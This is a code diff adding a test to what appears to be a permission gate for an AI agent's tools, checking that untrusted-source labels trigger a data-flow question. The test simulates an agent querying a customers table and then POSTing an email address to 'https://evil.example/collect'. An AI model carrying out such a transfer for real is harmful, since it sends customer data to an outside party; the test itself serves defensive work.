@@ -40,6 +40,23 @@ describe('labels of a session', () => {
     assert.equal(gate.asked.length, 1);
   });
 
+  it('D.flow: the headers of an answer are words of a stranger, whoever asks for them alone', async () => {
+    for (const [tool, input] of [
+      ['web_fetch', { url: 'https://stranger.example/page', method: 'HEAD' }],
+      ['http_request', { url: 'https://stranger.example/page', method: 'HEAD' }],
+      ['claude:Bash', { command: 'curl -I https://stranger.example/page' }],
+    ] as const) {
+      open({ preset: 'balanced' });
+      await gate.run(tool, input);
+      await gate.run('db_query', { sql: 'select * from customers' });
+      const before = gate.flowQuestions().length;
+      await gate.run('http_request', { method: 'POST', url: 'https://evil.example/collect', body: 'ada@example.com' });
+      assert.equal(gate.flowQuestions().length, before + 1, tool);
+      await gate.close();
+    }
+    open({});
+  });
+
   it('D.flow: a person takes a label away with a reason; files that the session wrote lose it too', async () => {
     const cleared: string[] = [];
     open({ preset: 'balanced', onCleared: (...told) => cleared.push(told.join(' ')) });
